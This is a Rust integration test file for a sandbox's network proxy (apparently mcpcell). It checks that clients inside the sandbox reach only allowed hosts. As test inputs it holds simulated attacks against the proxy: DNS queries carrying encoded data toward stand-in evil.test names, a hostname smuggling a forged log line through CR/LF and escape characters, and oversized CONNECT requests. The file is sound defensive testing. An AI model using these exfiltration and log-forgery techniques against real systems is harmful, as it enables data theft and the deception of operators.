//! Network mode `proxy`, with real servers on the host's loopback and real clients inside the
//! sandbox (curl, Python urllib and httpx, Node's fetch, npm).
//!
//! The names `allowed.mcpcell.test` and `other.mcpcell.test` must resolve to 127.0.0.1 on
//! the host (`tests/run.sh` adds them to /etc/hosts); the test profiles allow 127.0.0.0/8
//! explicitly, and one test proves the same name is refused without that.

mod common;

use std::io::{BufRead, BufReader};
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use common::*;

const ALLOWED: &str = "allowed.mcpcell.test";
const OTHER: &str = "other.mcpcell.test";
const T: Duration = Duration::from_secs(60);

fn names_resolve() -> bool {
    let ok = |n: &str| {
        (n, 80)
            .to_socket_addrs()
            .map(|mut a| a.any(|s| s.ip().is_loopback()))
            .unwrap_or(false)
    };
    require(
        ok(ALLOWED) && ok(OTHER),
        "/etc/hosts entries for allowed.mcpcell.test and other.mcpcell.test (tests/run.sh adds them)",
    )
}

/// A TLS server with a self-signed certificate for allowed.mcpcell.test (python3 + openssl).
struct TlsServer {
    port: u16,
    cert: PathBuf,
    child: Child,
}

impl TlsServer {
    fn start(dir: &Path) -> TlsServer {
        let cert = dir.join("cert.pem");
        let key = dir.join("key.pem");
        let st = Command::new("openssl")
            .args([
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-days",
                "1",
                "-subj",
                &format!("/CN={ALLOWED}"),
            ])
            .args(["-addext", &format!("subjectAltName=DNS:{ALLOWED}")])
            .arg("-keyout")
            .arg(&key)
            .arg("-out")
            .arg(&cert)
            .stderr(Stdio::null())
            .status()
            .expect("openssl");
        assert!(st.success());
        let script = r#"
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"hello over tls\n"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(sys.argv[1], sys.argv[2])
s.socket = ctx.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;
        let mut child = Command::new("python3")
            .args(["-c", script])
            .arg(&cert)
            .arg(&key)
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.as_mut().unwrap())
            .read_line(&mut line)
            .unwrap();
        TlsServer {
            port: line.trim().parse().unwrap(),
            cert,
            child,
        }
    }
}

impl Drop for TlsServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

struct Setup {
    dir: tempfile::TempDir,
    http: HttpServer,
    tls: TlsServer,
    profile: PathBuf,
}

fn setup(base: &str, allow_private: bool) -> Setup {
    let dir = readable_scratch();
    let http = HttpServer::start();
    let tls = TlsServer::start(dir.path());
    let private = if allow_private {
        "  allow_private: [127.0.0.0/8]\n"
    } else {
        ""
    };
    let profile = profile(
        dir.path(),
        "proxied",
        &format!(
            "extends: [{base}]\nfilesystem:\n  read: [\"{}\"]\nnetwork:\n  mode: proxy\n  allow: [\"{ALLOWED}:{}\", \"{ALLOWED}:{}\"]\n{private}",
            dir.path().display(),
            http.port,
            tls.port
        ),
    );
    Setup {
        dir,
        http,
        tls,
        profile,
    }
}

/// Runs `args` in the sandbox with the setup's profile; returns (code, stdout, stderr).
fn inside(s: &Setup, args: &[&str]) -> (i32, String, String) {
    let mut all = vec![
        "-p",
        s.profile.to_str().unwrap(),
        "--log-level",
        "info",
        "--",
    ];
    all.extend_from_slice(args);
    let mut c = run_cmd(&all);
    c.env("XDG_STATE_HOME", s.dir.path().join("state"));
    let out = output_within(c, T);
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn curl_through_the_proxy_reaches_only_allowed_hosts_and_ports() {
    if !names_resolve() {
        return;
    }
    let s = setup("default", true);
    let url = format!("http://{ALLOWED}:{}/via-proxy", s.http.port);
    let (code, out, err) = inside(&s, &["curl", "-sS", &url]);
    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
    assert!(
        err.contains(&format!("proxy: connected to {ALLOWED}:{}", s.http.port)),
        "{err}"
    );

    // TLS passes through untouched: curl verifies the host server's own certificate.
    let tls_url = format!("https://{ALLOWED}:{}/", s.tls.port);
    let (code, out, err) = inside(
        &s,
        &[
            "curl",
            "-sS",
            "--cacert",
            s.tls.cert.to_str().unwrap(),
            &tls_url,
        ],
    );
    assert_eq!((code, out.as_str()), (0, "hello over tls\n"), "{err}");

    // SOCKS5 with remote name resolution.
    let socks = format!("http://{ALLOWED}:{}/via-socks", s.http.port);
    let (code, out, err) = inside(
        &s,
        &[
            "sh",
            "-c",
            &format!("curl -sS --proxy \"socks5h://${{HTTP_PROXY#http://}}\" {socks}"),
        ],
    );
    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");

    // Another name for the same address, another port, and a direct IP are refused.
    let other = format!("http://{OTHER}:{}/refused", s.http.port);
    let (code, _, err) = inside(&s, &["curl", "-sS", "-f", &other]);
    assert_ne!(code, 0);
    assert!(
        err.contains(&format!(
            "proxy: refused {OTHER}:{}: not in network.allow",
            s.http.port
        )),
        "{err}"
    );
    let wrong_port = format!("http://{ALLOWED}:{}/", s.tls.port + 1);
    let (code, _, err) = inside(&s, &["curl", "-sS", "-f", &wrong_port]);
    assert_ne!(code, 0);
    assert!(err.contains("not in network.allow"), "{err}");
    let direct = format!("http://127.0.0.1:{}/direct", s.http.port);
    let (code, _, _) = inside(&s, &["curl", "-sS", "-f", "--noproxy", "*", &direct]);
    assert_ne!(code, 0);
    let seen = s.http.requests();
    assert!(
        seen.iter()
            .all(|r| !r.contains("refused") && !r.contains("direct")),
        "{seen:?}"
    );
    assert_eq!(
        seen.iter().filter(|r| r.contains("/via-")).count(),
        2,
        "{seen:?}"
    );
}

#[test]
fn clients_that_ignore_proxy_variables_still_reach_allowed_names() {
    if !names_resolve() {
        return;
    }
    let s = setup("node", true);
    let url = format!("http://{ALLOWED}:{}/transparent-curl", s.http.port);
    let (code, out, err) = inside(&s, &["curl", "-sS", "--noproxy", "*", &url]);
    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");

    // Node 20's built-in fetch ignores HTTP_PROXY; it resolves through the sandbox's DNS.
    let script = format!(
        "fetch('http://{ALLOWED}:{}/transparent-node').then(r => r.text()).then(t => process.stdout.write(t)).catch(e => {{ console.log('ERR', e.cause && e.cause.code); process.exit(1) }})",
        s.http.port
    );
    let (code, out, err) = inside(&s, &["node", "-e", &script]);
    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
    let tls_script = format!(
        "fetch('https://{ALLOWED}:{}/').then(r => r.text()).then(t => process.stdout.write(t)).catch(e => {{ console.log('ERR', e.cause && e.cause.code); process.exit(1) }})",
        s.tls.port
    );
    let mut all = vec!["-p", s.profile.to_str().unwrap(), "--set-env"];
    let extra = format!("NODE_EXTRA_CA_CERTS={}", s.tls.cert.display());
    all.push(&extra);
    all.extend_from_slice(&["--", "node", "-e", &tls_script]);
    let out = output_within(run_cmd(&all), T);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "hello over tls\n",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // A name that is not allowed does not even resolve, so DNS cannot carry data out.
    let (code, out, err) = inside(
        &s,
        &[
            "node",
            "-e",
            "require('dns').lookup('secret-data.evil.test', (e) => { console.log(e ? e.code : 'resolved'); })",
        ],
    );
    assert_eq!((code, out.trim()), (0, "ENOTFOUND"), "{err}");
    assert!(
        err.contains("refused DNS lookup of secret-data.evil.test"),
        "{err}"
    );
    let seen = s.http.requests();
    assert!(
        seen.iter().any(|r| r.contains("/transparent-curl"))
            && seen.iter().any(|r| r.contains("/transparent-node")),
        "{seen:?}"
    );
}

#[test]
fn python_clients_use_the_proxy() {
    if !names_resolve() {
        return;
    }
    let s = setup("python", true);
    let url = format!("http://{ALLOWED}:{}/urllib", s.http.port);
    let (code, out, err) = inside(
        &s,
        &[
            "python3",
            "-c",
            &format!(
                "import urllib.request; print(urllib.request.urlopen('{url}').read().decode(), end='')"
            ),
        ],
    );
    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
    let other = format!("http://{OTHER}:{}/urllib", s.http.port);
    let (code, out, _) = inside(
        &s,
        &[
            "python3",
            "-c",
            &format!(
                "import urllib.request\ntry:\n urllib.request.urlopen('{other}')\nexcept Exception as e:\n print('refused', getattr(e, 'code', e))"
            ),
        ],
    );
    assert_eq!((code, out.trim()), (0, "refused 403"));

    let venv = venv().join("bin/python");
    if require(
        venv.exists(),
        "the integration Python environment with httpx (.ci/run installs it)",
    ) {
        let venv = venv.to_str().unwrap();
        let code_src = format!(
            "import httpx; print(httpx.get('https://{ALLOWED}:{}/', verify='{}').text, end='')",
            s.tls.port,
            s.tls.cert.display()
        );
        let (code, out, err) = inside(&s, &[venv, "-c", &code_src]);
        assert_eq!((code, out.as_str()), (0, "hello over tls\n"), "{err}");
    }
}

#[test]
fn private_addresses_need_allow_private() {
    if !names_resolve() {
        return;
    }
    let s = setup("default", false);
    let url = format!("http://{ALLOWED}:{}/rebinding", s.http.port);
    let (code, _, err) = inside(&s, &["curl", "-sS", "-f", &url]);
    assert_ne!(code, 0);
    assert!(
        err.contains(&format!("proxy: refused {ALLOWED}:{}: resolves to the non-public address 127.0.0.1, which network.allow_private does not cover", s.http.port)),
        "{err}"
    );
    assert!(s.http.requests().is_empty());
}

#[test]
fn udp_and_other_traffic_has_no_route() {
    if !names_resolve() {
        return;
    }
    let s = setup("default", true);
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let p = probe();
    let port = udp.local_addr().unwrap().port().to_string();
    // Inside, every IPv4 address is the sandbox's own loopback: a datagram "sent" anywhere
    // stays there. Only the host side can tell, and it sees nothing.
    let _ = inside(&s, &[p.to_str().unwrap(), "udp", "127.0.0.1", &port, "x"]);
    let mut b = [0u8; 8];
    assert!(
        udp.recv_from(&mut b).is_err(),
        "a datagram reached the host"
    );
    // The proxy listens only inside the sandbox's namespace.
    let tcp = std::fs::read_to_string("/proc/net/tcp").unwrap();
    assert!(
        !tcp.lines()
            .any(|l| l.contains(":0C38 ") && l.contains(" 0A ")),
        "something listens on the host's port 3128"
    );
    let _ = TcpStream::connect_timeout(
        &"127.0.0.1:3128".parse().unwrap(),
        Duration::from_millis(200),
    )
    .map(|_| panic!("the proxy answered on the host"));
}

#[test]
fn a_summary_is_logged_at_exit() {
    if !names_resolve() {
        return;
    }
    let s = setup("default", true);
    let url = format!("http://{ALLOWED}:{}/", s.http.port);
    let other = format!("http://{OTHER}:{}/", s.http.port);
    let (_, _, err) = inside(
        &s,
        &[
            "sh",
            "-c",
            &format!(
                "curl -s {url} >/dev/null; curl -s {other} >/dev/null; curl -s {other} >/dev/null"
            ),
        ],
    );
    assert!(
        err.contains(&format!(
            "proxy summary: allowed {ALLOWED}:{}: 1 connection",
            s.http.port
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "proxy summary: refused {OTHER}:{}: 2 attempts (not in network.allow)",
            s.http.port
        )),
        "{err}"
    );
}

#[test]
fn npx_downloads_through_the_proxy() {
    // The npm registry is the one place this machine may reach; a test that needs it says so.
    if !require(
        ("registry.npmjs.org", 443).to_socket_addrs().is_ok(),
        "the npm registry (DNS)",
    ) {
        return;
    }
    let dir = scratch();
    let prof = profile(
        dir.path(),
        "npx",
        "extends: [node]\nnetwork:\n  mode: proxy\n  allow: [registry.npmjs.org]\n",
    );
    let mut c = run_cmd(&[
        "-p",
        prof.to_str().unwrap(),
        "--",
        "npx",
        "-y",
        "cowsay@1.6.0",
        "sandboxed",
    ]);
    // A fresh state directory: the package really is downloaded.
    c.env("XDG_STATE_HOME", dir.path().join("state"));
    for k in ["NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE"] {
        if let Ok(v) = std::env::var(k) {
            c.env(k, v);
        }
    }
    let out = output_within(c, Duration::from_secs(180));
    let o = String::from_utf8_lossy(&out.stdout);
    assert!(
        o.contains("< sandboxed >"),
        "stdout: {o}\nstderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    // In this server's own state directory (mcpcell/npx/<server id>/).
    let own: Vec<_> = std::fs::read_dir(dir.path().join("state/mcpcell/npx"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert_eq!(own.len(), 1, "{own:?}");
    assert!(own[0].join("npm-cache/_npx").is_dir(), "{own:?}");
}

#[test]
fn learning_records_the_hosts_the_server_reached() {
    if !names_resolve() || !require(which::which("curl").is_ok(), "curl") {
        return;
    }
    let dir = scratch();
    let http = HttpServer::start();
    let base = profile(
        dir.path(),
        "open-proxy",
        "extends: [default]\nnetwork:\n  mode: proxy\n  allow_private: [127.0.0.0/8]\n",
    );
    let learned = dir.path().join("learned-web.yaml");
    let url = format!("http://{ALLOWED}:{}/learn", http.port);
    let mut c = mcpcell_cmd(
        "learn",
        &[
            "-p",
            base.to_str().unwrap(),
            "-o",
            learned.to_str().unwrap(),
            "--",
            "curl",
            "-fsS",
            "-m",
            "10",
            &url,
        ],
    );
    c.env("XDG_STATE_HOME", dir.path().join("state"));
    let out = output_within(c, T);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("Every host it contacts"), "{stderr}");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "hello from the host\n"
    );
    let text = std::fs::read_to_string(&learned).unwrap();
    assert!(
        text.contains(&format!("- {ALLOWED}:{}", http.port)),
        "the host is learned: {text}"
    );
    assert!(!text.contains(OTHER), "{text}");

    let run = |target: &str| {
        let mut c = run_cmd(&[
            "-p",
            learned.to_str().unwrap(),
            "--",
            "curl",
            "-fsS",
            "-m",
            "10",
            target,
        ]);
        c.env("XDG_STATE_HOME", dir.path().join("state"));
        output_within(c, T)
    };
    let ok = run(&url);
    assert_eq!(
        ok.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    let other = run(&format!("http://{OTHER}:{}/other", http.port));
    assert_ne!(other.status.code(), Some(0));
    assert!(
        !http.requests().iter().any(|r| r.contains("/other")),
        "{:?}",
        http.requests()
    );
}

/// Runs `args` in the sandbox under the profile `yaml` (written into `dir`).
fn inside_with(dir: &Path, yaml: &str, level: &str, args: &[&str]) -> (i32, String, String) {
    let p = profile(dir, "pinned", yaml);
    let mut all = vec!["-p", p.to_str().unwrap(), "--log-level", level, "--"];
    all.extend_from_slice(args);
    let mut c = run_cmd(&all);
    c.env("XDG_STATE_HOME", dir.join("state"));
    let out = output_within(c, T);
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn ipv6_forms_of_loopback_are_refused_like_loopback() {
    if !require(which::which("curl").is_ok(), "curl") {
        return;
    }
    let dir = readable_scratch();
    let http = HttpServer::start();
    let port = http.port;
    let names = [
        ("mapped.mcpcell.test", "::ffff:127.0.0.1"),
        ("nat64.mcpcell.test", "64:ff9b::7f00:1"),
        ("compat.mcpcell.test", "::127.0.0.1"),
    ];
    let yaml = |private: &str| {
        let mut y = format!("extends: [default]\nnetwork:\n  mode: proxy\n{private}  allow:\n");
        for (n, _) in names {
            y.push_str(&format!("    - \"{n}:{port}\"\n"));
        }
        y.push_str("  hosts:\n");
        for (n, ip) in names {
            y.push_str(&format!("    {n}: \"{ip}\"\n"));
        }
        y
    };
    for (name, ip) in names {
        let url = format!("http://{name}:{port}/{ip}");
        let (code, _, err) =
            inside_with(dir.path(), &yaml(""), "info", &["curl", "-sS", "-f", &url]);
        assert_ne!(code, 0, "{name} -> {ip} was reached: {err}");
        assert!(
            err.contains(&format!(
                "proxy: refused {name}:{port}: resolves to the non-public address {}, which network.allow_private does not cover",
                ip.parse::<std::net::IpAddr>().unwrap()
            )),
            "{err}"
        );
    }
    assert!(http.requests().is_empty(), "{:?}", http.requests());

    // Control: with the IPv4 address in allow_private, the IPv4-mapped name does reach the
    // host's loopback server, so the refusal above is the classification at work.
    let ipv6 = std::net::TcpStream::connect(("::ffff:127.0.0.1", port)).is_ok();
    if require(ipv6, "IPv6 sockets (to connect to ::ffff:127.0.0.1)") {
        let url = format!("http://mapped.mcpcell.test:{port}/control");
        let (code, out, err) = inside_with(
            dir.path(),
            &yaml("  allow_private: [127.0.0.0/8]\n"),
            "info",
            &["curl", "-sS", "-f", &url],
        );
        assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
        assert!(
            http.requests().iter().any(|r| r.contains("/control")),
            "{:?}",
            http.requests()
        );
    }
}

/// Queries the sandbox's resolver (from /etc/resolv.conf) for NAME TYPE pairs; prints
/// `TYPE RCODE ANSWERS` per query.
const DNS_QUERY: &str = r#"
import socket, struct, sys
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
args = sys.argv[1:]
for name, t in zip(args[::2], args[1::2]):
    hdr = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
    qn = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    s.sendto(hdr + qn + struct.pack('>HH', int(t), 1), (ns, 53))
    r = s.recv(4096)
    print(t, r[3] & 15, struct.unpack('>H', r[6:8])[0], flush=True)
"#;

#[test]
fn only_address_queries_reach_the_hosts_resolver() {
    if !require(which::which("python3").is_ok(), "python3") {
        return;
    }
    let dir = readable_scratch();
    let yaml = "extends: [python]\nnetwork:\n  mode: proxy\n  allow: [\"*.wild.mcpcell.test\"]\n";
    // Data in the name, as an exfiltrating server would put it, under the allowed wildcard.
    let queries = [
        ("txt-c2vjcmv0.wild.mcpcell.test", "16"),
        ("mx-c2vjcmv0.wild.mcpcell.test", "15"),
        ("any-c2vjcmv0.wild.mcpcell.test", "255"),
        ("aaaa-c2vjcmv0.wild.mcpcell.test", "28"),
        ("srv-c2vjcmv0.wild.mcpcell.test", "33"),
        ("https-c2vjcmv0.wild.mcpcell.test", "65"),
        // Control: an A query for an allowed name is resolved, and the log shows it.
        ("a-c2vjcmv0.wild.mcpcell.test", "1"),
    ];
    let mut args = vec!["python3", "-c", DNS_QUERY];
    for (n, t) in &queries {
        args.push(n);
        args.push(t);
    }
    let (code, out, err) = inside_with(dir.path(), yaml, "debug", &args);
    assert_eq!(code, 0, "{out}{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), queries.len(), "{out}{err}");
    for ((name, t), line) in queries.iter().zip(&lines) {
        let resolved = err.contains(&format!("proxy: resolving {name} for the sandbox"));
        if *t == "1" {
            assert!(
                resolved,
                "the control A query was not seen resolving: {err}"
            );
            continue;
        }
        // NOERROR, no records, and nothing looked up.
        assert_eq!(*line, format!("{t} 0 0"), "{name}: {out}");
        assert!(
            !resolved,
            "a type {t} query was resolved on the host: {err}"
        );
        assert!(!err.contains(name), "{name} was logged as looked up: {err}");
    }
}

/// A server that asks again and again for an allowed name the host cannot resolve (or for
/// name after name under an allowed wildcard) cannot flood mcpcell's log: each name's
/// failure is logged once. Judged by the log lines; the control is that every distinct name
/// is logged.
#[test]
fn a_name_that_does_not_resolve_is_logged_once() {
    if !require(which::which("python3").is_ok(), "python3") {
        return;
    }
    let dir = readable_scratch();
    let yaml = "extends: [python]\nnetwork:\n  mode: proxy\n  allow: [\"*.wild.mcpcell.test\"]\n";
    let mut args = vec!["python3", "-c", DNS_QUERY];
    let names = ["gone-1.wild.mcpcell.test", "gone-2.wild.mcpcell.test"];
    // (A few: each is a lookup on the host's resolver.)
    for _ in 0..5 {
        args.extend([names[0], "1"]);
    }
    args.extend([names[1], "1"]);
    let (code, out, err) = inside_with(dir.path(), yaml, "info", &args);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(out.lines().count(), 6, "{out}{err}");
    for name in names {
        let logged = err
            .lines()
            .filter(|l| l.contains(&format!("proxy: no address for {name}")))
            .count();
        assert_eq!(logged, 1, "{name}: {err}");
    }
}

/// A name an allowed wildcard admits but no host could have (a control character in a
/// label) is refused without a lookup on the host, and said so; a valid name beside it is
/// the control, looked up.
#[test]
fn an_invalid_name_under_a_wildcard_is_not_looked_up() {
    if !require(which::which("python3").is_ok(), "python3") {
        return;
    }
    let dir = readable_scratch();
    let yaml = "extends: [python]\nnetwork:\n  mode: proxy\n  allow: [\"*.wild.mcpcell.test\"]\n";
    let bad = "x\u{7}y.wild.mcpcell.test";
    let good = "good.wild.mcpcell.test";
    let args = ["python3", "-c", DNS_QUERY, bad, "1", good, "1"];
    let (code, out, err) = inside_with(dir.path(), yaml, "debug", &args);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        err.contains(r"refused DNS lookup of x\x07y.wild.mcpcell.test: not a valid host name"),
        "{err}"
    );
    assert!(!err.contains(r"resolving x\x07y"), "{err}");
    assert!(
        err.contains(&format!("proxy: resolving {good} for the sandbox")),
        "{err}"
    );
}

#[test]
fn a_hostile_name_cannot_forge_log_lines() {
    if !require(which::which("python3").is_ok(), "python3") {
        return;
    }
    let dir = readable_scratch();
    let yaml = "extends: [python]\nnetwork:\n  mode: proxy\n  allow: [\"a.mcpcell.test\"]\n";
    // A label with CR, LF, ESC and a forged log line in it.
    let name = "x\r\n WARN proxy: connected to bank.example:443\x1b[2K.evil.test";
    let log = dir.path().join("log.json");
    for (level, extra) in [
        ("info", vec![]),
        (
            "info",
            vec!["--log-format", "json", "--log-file", log.to_str().unwrap()],
        ),
    ] {
        let p = profile(dir.path(), "pinned", yaml);
        let mut all = vec!["-p", p.to_str().unwrap(), "--log-level", level];
        all.extend(extra.iter().copied());
        all.extend(["--", "python3", "-c", DNS_QUERY, name, "16", name, "1"]);
        let mut c = run_cmd(&all);
        c.env("XDG_STATE_HOME", dir.path().join("state"));
        let out = output_within(c, T);
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(0), "{err}");
        let text = if extra.is_empty() {
            err
        } else {
            std::fs::read_to_string(&log).unwrap()
        };
        // The name was logged (the refusal), escaped: no line of the log is the forged one.
        assert!(text.contains("evil.test"), "{text}");
        assert!(
            !text
                .lines()
                .any(|l| l.to_ascii_lowercase().starts_with(" warn proxy: connected")),
            "{text}"
        );
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{text:?}"
        );
        if extra.is_empty() {
            // The name was logged, escaped (the responder lowercases names).
            assert!(
                text.contains(r"refused DNS lookup of x\x0d\x0a warn proxy: connected"),
                "{text}"
            );
        } else {
            // JSON keeps the exact name, as JSON escapes.
            let refused: Vec<serde_json::Value> = text
                .lines()
                .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
                .filter(|v| v["event"] == "dns_refused")
                .collect();
            assert!(!refused.is_empty(), "{text}");
            for v in refused {
                assert!(v["host"].as_str().unwrap().contains("\r\n"), "{v}");
            }
        }
    }
}

/// A name as long as a request head may be (64 KiB) is logged clipped: the server cannot
/// make mcpcell write hundreds of megabytes (three lines for each of a thousand names) or
/// hold them in its tables.
#[test]
fn a_long_name_is_logged_clipped() {
    if !require(which::which("python3").is_ok(), "python3") {
        return;
    }
    let dir = readable_scratch();
    let p = profile(
        dir.path(),
        "long",
        "extends: [python]\nnetwork:\n  mode: proxy\n  allow: [\"a.mcpcell.test\"]\n",
    );
    let script = r#"
import os, socket
host, port = os.environ["HTTPS_PROXY"].split("//")[1].rstrip("/").rsplit(":", 1)
for i in range(3):
    name = "n%d" % i + "a" * 60000 + ".evil.test"
    s = socket.create_connection((host, int(port)))
    s.sendall(b"CONNECT " + name.encode() + b":443 HTTP/1.1\r\nHost: x\r\n\r\n")
    print(s.makefile("rb").readline().decode().strip())
"#;
    let mut c = run_cmd(&["-p", p.to_str().unwrap(), "--", "python3", "-c", script]);
    c.env("XDG_STATE_HOME", dir.path().join("state"));
    let out = output_within(c, T);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{err}");
    // Each name was refused, and said so.
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        stdout
            .lines()
            .filter(|l| l.starts_with("HTTP/1.1 4"))
            .count(),
        3,
        "{stdout}"
    );
    for i in 0..3 {
        assert!(
            err.contains(&format!("proxy: refused n{i}aaaa")),
            "{}",
            &err[..err.len().min(2000)]
        );
    }
    let longest = err.lines().map(str::len).max().unwrap_or(0);
    assert!(longest < 2000, "a log line of {longest} bytes");
    assert!(err.len() < 64 * 1024, "{} bytes of log", err.len());
}

/// An allowed name that resolves to one of this host's own addresses reaches the host's own
/// services, whatever the address's range: a database listening on every address of a
/// machine whose public address is on its interface. In a network namespace of its own (so
/// that nothing of the machine's changes), a public-range address is put on `lo` with a
/// server behind it; the name pinned to it is refused through the proxy. The control is the
/// same server reached from outside the sandbox.
#[test]
fn an_allowed_name_on_this_hosts_own_address_is_refused() {
    let tools = ["curl", "ip", "unshare", "python3"];
    if !is_root()
        || !require(
            tools.iter().all(|t| which::which(t).is_ok()),
            "curl, ip, unshare, python3",
        )
    {
        return;
    }
    let dir = readable_scratch();
    let www = dir.path().join("www");
    std::fs::create_dir_all(&www).unwrap();
    write(&www.join("secret.txt"), "host secret\n");
    let (ip, port) = ("1.2.3.4", 8765);
    // The same address in NAT64's form: a NAT64 on the path turns it back into 1.2.3.4.
    let nat64 = "64:ff9b::102:304";
    let p = profile(
        dir.path(),
        "self",
        &format!(
            "extends: [default]\nnetwork:\n  mode: proxy\n  allow: [\"self.mcpcell.test:{port}\", \"nat64.mcpcell.test:{port}\"]\n  hosts:\n    self.mcpcell.test: \"{ip}\"\n    nat64.mcpcell.test: \"{nat64}\"\n"
        ),
    );
    let url = format!("http://self.mcpcell.test:{port}/secret.txt");
    let script = format!(
        r#"set -e
cd /
ip link set lo up
ip addr add {ip}/32 dev lo
python3 -m http.server {port} --bind {ip} --directory {www} >/dev/null 2>&1 &
for i in $(seq 50); do curl -s -o /dev/null http://{ip}:{port}/ && break; sleep 0.1; done
echo "control: $(curl -sS http://{ip}:{port}/secret.txt)"
"$MCPCELL" run -p {p} -- curl -sS -f {url} && echo REACHED || echo "sandbox: refused"
"$MCPCELL" run -p {p} -- curl -sS -f http://nat64.mcpcell.test:{port}/secret.txt && echo REACHED || echo "sandbox: refused"
kill %1
"#,
        www = www.display(),
        p = p.display(),
    );
    let mut c = Command::new("unshare");
    c.args(["--net", "bash", "-c", &script])
        .env("MCPCELL", mcpcell())
        .env("XDG_STATE_HOME", dir.path().join("state"))
        .stdin(Stdio::null());
    let out = output_within(c, T);
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(stdout.contains("control: host secret"), "{stdout}{stderr}");
    assert!(
        stdout.contains("sandbox: refused") && !stdout.contains("REACHED"),
        "{stdout}{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "proxy: refused self.mcpcell.test:{port}: resolves to the non-public address {ip}"
        )),
        "{stderr}"
    );
    // Judged before any connection is tried (not "connection failed": a NAT64 would deliver it).
    assert!(
        stderr.contains(&format!(
            "proxy: refused nat64.mcpcell.test:{port}: resolves to the non-public address {nat64}"
        )),
        "{stderr}"
    );
}
